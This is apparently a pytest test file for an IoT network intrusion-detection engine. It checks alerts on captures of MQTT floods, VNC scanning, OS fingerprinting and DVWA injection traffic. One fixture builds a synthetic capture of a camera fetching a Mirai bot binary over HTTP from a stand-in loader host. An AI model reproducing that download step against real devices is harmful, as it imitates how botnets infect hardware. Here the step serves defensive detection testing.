"""The evidence gate and attribution on real captures (``shared/data/pcaps``), with a stand-in model that flags
every flow as one family: what the gate lets through then depends only on the traffic's own shape.

* MQTTset's benign capture: ten sensors on long connections to one broker. Even with every flow flagged as
  MQTT abuse, nothing raises: each sensor has one conversation, their connection set-ups are fast but
  two-sided, and a broker's crowd of clients is no distributed attack.
* MQTTset's publish flood: one connection pushing large publishes (few packets, ~1 MB one way) raises an
  incident on its bytes.
* Zeek's Modbus capture (anonymised: both ends of every flow have one address): no attacker to name, nothing
  raised, every flagged flow counted as a self flow.
* Zeek's VNC scanner capture: one connection, no volume: a model's verdict on it is held and dropped; the
  server's refusal of the scanner's password raises a BruteForce incident (the auth check) whatever the models
  say.
* DVWA directory traversal and SQL injection: whatever the models say (here: nothing), the injection indicators
  of the HTTP requests raise a WebAttack incident on the first request, explained by the indicator count.
* A device fetching a bot binary over HTTP (packets built with scapy: no public capture here carries an ELF
  file): whatever the models say, one download raises a Botnet incident naming the device.
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from iotguard.detect.detector import Calibration, Component, Detector
from iotguard.detect.engine import DetectionConfig, DetectionEngine
from iotguard.detect.evidence import EvidenceConfig
from iotguard.flows import iter_flows


class _Flags:
    """A stand-in classifier artifact flagging every flow as ``family`` with certainty, or none when the family
    is ``Benign`` (only the model is faked; flows, attribution, gate and folding are the real ones)."""

    kind = "classifier"
    features = ["dst_port"]
    benign_index = 0

    def __init__(self, family: str) -> None:
        self.name = f"always-{family}"
        self.classes = ["Benign", family]

    def predict_array(self, x):
        class P:
            pass

        p = P()
        row = [1 - 1e-9, 1e-9] if self.classes[1] == "Benign" else [1e-9, 1 - 1e-9]
        p.proba = np.tile(row, (len(x), 1)).astype(np.float32)
        p.score = p.proba[:, 1]
        p.classes = self.classes
        return p


def _run(capture, family: str, config: DetectionConfig | None = None) -> DetectionEngine:
    comp = Component("classifier", _Flags(family), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
    engine = DetectionEngine(Detector(comp, None), config=config)
    for batch in iter_flows(capture, early=10):
        engine.process(batch)
    engine.close()
    return engine


def test_a_brokers_sensors_raise_nothing_even_if_every_flow_is_flagged(data_file):
    engine = _run(data_file("pcaps/mqttset_reduced/benign.pcap"), "MQTTAbuse")
    assert engine.stats.flagged == engine.stats.flows > 80
    assert engine.stats.incidents == 0 and engine.stats.alerts == 0
    assert engine.stats.insufficient_evidence > 0


def test_a_publish_flood_of_large_messages_raises_on_its_bytes(data_file):
    engine = _run(data_file("pcaps/mqttset_reduced/flood.pcap"), "MQTTAbuse")
    assert engine.stats.flows == 2  # one connection: its early and its final record
    assert engine.stats.incidents == 1 and engine.stats.alerts >= 1


def test_self_flows_of_an_anonymised_capture_name_no_attacker(data_file):
    engine = _run(data_file("pcaps/zeek/modbus_modbusSmall.pcap"), "DoS")
    assert engine.stats.self_flows == engine.stats.flagged == engine.stats.flows > 30
    assert engine.stats.alerts == 0 and engine.stats.incidents == 0


@pytest.mark.parametrize("family", ["PortScan", "Anomaly"])
def test_one_connection_of_a_vnc_scanner_is_not_enough_evidence(data_file, family):
    # a model's verdict alone (the auth check off)
    config = DetectionConfig(rfb_auth_failures=None)
    engine = _run(data_file("pcaps/zeek/rfb_vnc-scanner.pcap"), family, config)
    # its early and final record are one flow: one alert, held, dropped
    assert (
        engine.stats.incidents == 0
        and engine.stats.insufficient_evidence == 1
        and engine.stats.duplicate == 1
    )


def test_an_os_fingerprint_names_the_prober_even_where_its_syn_was_not_captured(data_file):
    """nmap -O against 172.16.16.150: two flows start with the victim's SYN-ACK (the prober's SYNs are not in
    the capture) and one with its echo reply. Every flow flagged, no evidence gate: every alert still names the
    prober, never the victim."""
    from iotguard.core.schema import FIRST_FLAGS_COLUMN
    from iotguard.flows import read_flows

    path = data_file("pcaps/chrissanders_packets/activeosfingerprinting.pcapng")
    flows = read_flows(path)
    syn_ack_first = flows[(flows["src_ip"] == "172.16.16.150") & (flows[FIRST_FLAGS_COLUMN] == 0x12)]
    assert len(syn_ack_first) == 2
    engine = DetectionEngine(
        Detector(
            Component(
                "classifier", _Flags("PortScan"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0))
            ),
            None,
        ),
        config=DetectionConfig(evidence=EvidenceConfig(enabled=False)),
    )
    events = [e for batch in iter_flows(path, early=10) for e in engine.process(batch)]
    assert {e.alert.src_ip for e in events} == {"172.16.16.128"}
    assert engine.stats.reply_flows == 3 and engine.stats.unattributed == 0


def test_icmp_fingerprinting_probes_raise_a_scan_the_models_need_not_see(data_file):
    """Xprobe-style ICMP OS fingerprinting of one host: four ICMP flows, one target, no volume; with models
    that flag nothing, the probe packets (undefined codes, deprecated request types) still raise one PortScan
    incident naming the prober, at once (a rule's match is its own evidence)."""
    path = data_file("pcaps/markofu_pcaps/osfingerprinting.pcap")
    assert _run(path, "Benign", DetectionConfig(probe_packets=None)).stats.flagged == 0
    comp = Component("classifier", _Flags("Benign"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
    engine = DetectionEngine(Detector(comp, None))
    events = [e for batch in iter_flows(path, early=10) for e in engine.process(batch)]
    engine.close()
    assert engine.stats.incidents == 1 and engine.stats.insufficient_evidence == 0
    assert {(e.alert.family, e.alert.model, e.alert.src_ip, e.alert.dest_ip) for e in events} == {
        ("PortScan", "probe-check", "10.0.0.29", "10.0.0.2")
    }
    assert all(e.alert.top_features[0][0] == "probe_packets" for e in events)


@pytest.mark.parametrize("capture", ["http_dvwa_directorytraversal.pcapng", "http_dvwa_sqlinjection.pcapng"])
def test_injection_in_http_requests_raises_a_web_attack_the_models_cannot_see(data_file, tmp_path, capture):
    from iotguard.core.store import Store

    path = data_file(f"pcaps/chrissanders_packets/{capture}")
    assert _run(path, "Benign", DetectionConfig(http_indicators=None)).stats.flagged == 0
    comp = Component("classifier", _Flags("Benign"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
    with Store(tmp_path / "a.db") as store:
        engine = DetectionEngine(Detector(comp, None), store=store)
        for batch in iter_flows(path, early=10):
            engine.process(batch)
        engine.close()
        alerts = store.alerts(limit=None)
        incidents = store.incidents(limit=None)
    assert len(incidents) == 1 and incidents[0].family == "WebAttack"
    assert (
        alerts
        and {a.family for a in alerts} == {"WebAttack"}
        and {a.model for a in alerts} == {"http-inspection"}
    )
    assert all(a.top_features[0][0] == "http_indicators" and a.top_features[0][1] >= 2 for a in alerts)
    assert {a.src_ip for a in alerts} == {"10.2.2.101"} and {a.dest_port for a in alerts} == {80}


def _slow_rows(n: int, head_open: float) -> pd.DataFrame:
    return pd.DataFrame(
        [
            {"flow_id": i, "src_ip": "198.51.100.23", "src_port": 40000 + i, "dst_ip": "192.168.50.36",
             "dst_port": 80, "protocol": 6, "ts_last": 100.0 + i, "fwd_packets": 6, "bwd_packets": 4,
             "http_head_open": head_open, "partial": True}
            for i in range(n)
        ]
    )  # fmt: skip


def test_unfinished_request_heads_of_many_connections_raise_a_slow_http_dos():
    """One connection with an unfinished head is a slow client; ten from one source (more than a browser's six
    parallel connections, the DoS rule) are a slow-HTTP DoS, whatever the models say."""
    comp = Component("classifier", _Flags("Benign"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
    engine = DetectionEngine(Detector(comp, None))
    assert engine.process(_slow_rows(9, 45.0)) == [] and engine.stats.held == 9
    events = engine.process(_slow_rows(10, 45.0).assign(flow_id=lambda f: f.flow_id + 100))
    assert len(events) == 19 and engine.stats.incidents == 1
    assert {(e.alert.family, e.alert.model, e.alert.src_ip) for e in events} == {
        ("DoS", "slow-http-check", "198.51.100.23")
    }
    assert events[0].alert.top_features == [("http_head_open", 45.0)]
    # under the threshold (or with the check off) nothing alerts
    assert DetectionEngine(Detector(comp, None)).process(_slow_rows(20, 19.0)) == []
    off = DetectionEngine(Detector(comp, None), config=DetectionConfig(slow_http_seconds=None))
    assert off.process(_slow_rows(20, 45.0)) == [] and off.stats.flagged == 0


def test_the_slow_http_check_leaves_a_models_verdict_alone():
    comp = Component(
        "classifier", _Flags("BruteForce"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0))
    )
    engine = DetectionEngine(
        Detector(comp, None), config=DetectionConfig(evidence=EvidenceConfig(enabled=False))
    )
    events = engine.process(_slow_rows(3, 45.0))
    assert {(e.alert.family, e.alert.model) for e in events} == {("BruteForce", "always-BruteForce")}


def _download_capture(path) -> None:
    """A camera (192.168.1.20) checking its vendor's server for firmware, then fetching a bot binary from a
    loader (203.0.113.9) with wget as Mirai's loader has it do; the loader writes the head, then the file."""
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether
    from scapy.utils import wrpcap

    cam = "192.168.1.20"
    elf = b"\x7fELF\x01\x01\x01\x61" + bytes(8) + b"\x02\x00\x28\x00" + bytes(1300)
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 1320\r\n\r\n"
    frames = []
    for server, sport, request, answer in (
        (
            "198.51.100.7",
            41000,
            b"GET /firmware/latest?model=cam HTTP/1.1\r\nHost: fw\r\n\r\n",
            [head + b"{}"],
        ),
        ("203.0.113.9", 41001, b"GET /bins/mirai.arm7 HTTP/1.0\r\nHost: 203.0.113.9\r\n\r\n", [head, elf]),
    ):
        up = Ether() / IP(src=cam, dst=server) / TCP(sport=sport, dport=80)
        down = Ether() / IP(src=server, dst=cam) / TCP(sport=80, dport=sport)
        steps = [(up, "S", b""), (down, "SA", b""), (up, "A", b""), (up, "PA", request)]
        steps += [(down, "PA", a) for a in answer] + [(down, "FA", b""), (up, "FA", b""), (down, "A", b"")]
        for side, flags, payload in steps:
            frame = side.copy()
            frame[TCP].flags = flags
            frames.append(frame / payload if payload else frame)
    for k, f in enumerate(frames):
        f.time = 1_500_000_000 + k * 0.01
    wrpcap(str(path), frames)


def test_a_device_downloading_an_executable_raises_a_botnet_incident_at_once(tmp_path):
    path = tmp_path / "download.pcap"
    _download_capture(path)
    assert _run(path, "Benign", DetectionConfig(elf_downloads=None)).stats.flagged == 0
    comp = Component("classifier", _Flags("Benign"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
    engine = DetectionEngine(Detector(comp, None))
    events = [e for batch in iter_flows(path, early=10) for e in engine.process(batch)]
    engine.close()
    # one flow is enough (a model's Botnet alert needs two flows): a rule's match is its own evidence
    assert engine.stats.incidents == 1 and engine.stats.insufficient_evidence == 0
    assert {(e.alert.family, e.alert.model, e.alert.src_ip, e.alert.dest_ip) for e in events} == {
        ("Botnet", "download-check", "192.168.1.20", "203.0.113.9")
    }
    assert all(e.alert.top_features == [("elf_downloads", 1.0)] for e in events)
    # a model's verdict on the same flow is overridden by the rule's (the download names the family)
    engine = _run(path, "DoS", DetectionConfig(evidence=EvidenceConfig(enabled=False)))
    assert engine.stats.by_family == {"DoS": 1, "Botnet": 1}
    # served from inside the site (an infected peer), it is still a Botnet download, not a re-labelled guess
    engine = _run(path, "Benign", DetectionConfig(site_networks=["192.168.0.0/16", "203.0.113.0/24"]))
    assert engine.stats.by_family == {"Botnet": 1} and engine.stats.inside_site == 0


def test_a_vnc_scanners_failed_login_raises_a_brute_force_incident_at_once(data_file):
    capture = data_file("pcaps/zeek/rfb_vnc-scanner.pcap")
    comp = Component("classifier", _Flags("Benign"), 0.0, Calibration("logistic", np.zeros(0), np.zeros(0)))
    engine = DetectionEngine(Detector(comp, None))
    events = [e for batch in iter_flows(capture, early=10) for e in engine.process(batch)]
    engine.close()
    # one connection, one refused password: a rule's match is its own evidence (and names the family)
    assert engine.stats.incidents == 1 and engine.stats.insufficient_evidence == 0
    assert {(e.alert.family, e.alert.model, e.alert.src_ip, e.alert.dest_ip) for e in events} == {
        ("BruteForce", "auth-check", "192.168.0.11", "10.0.0.149")
    }
    assert events[0].incident.src_ip == "192.168.0.11" and events[0].incident.family == "BruteForce"
    assert all(e.alert.top_features == [("rfb_auth_failures", 1.0)] for e in events)
    assert all(e.alert.signature == "IOTGUARD BruteForce (a failed VNC login)" for e in events)
    # one failure: confidence 0.5, so BruteForce's base severity 2 becomes 3 (of 4, 4 the least severe)
    assert all(e.alert.confidence == 0.5 and e.alert.severity == 3 for e in events)
    # None turns it off
    engine = _run(capture, "Benign", DetectionConfig(rfb_auth_failures=None))
    assert engine.stats.flagged == 0 and engine.stats.incidents == 0
    # a threshold above one failure: a single refused password is not enough
    engine = _run(capture, "Benign", DetectionConfig(rfb_auth_failures=2))
    assert engine.stats.flagged == 0
    # a model's verdict on the record with the failure is overridden by the rule's (the early record, before
    # the result, keeps the model's; the incident then names the scanner, whose held alert is released too)
    engine = _run(capture, "PortScan")
    assert engine.stats.by_family == {"PortScan": 1, "BruteForce": 1}
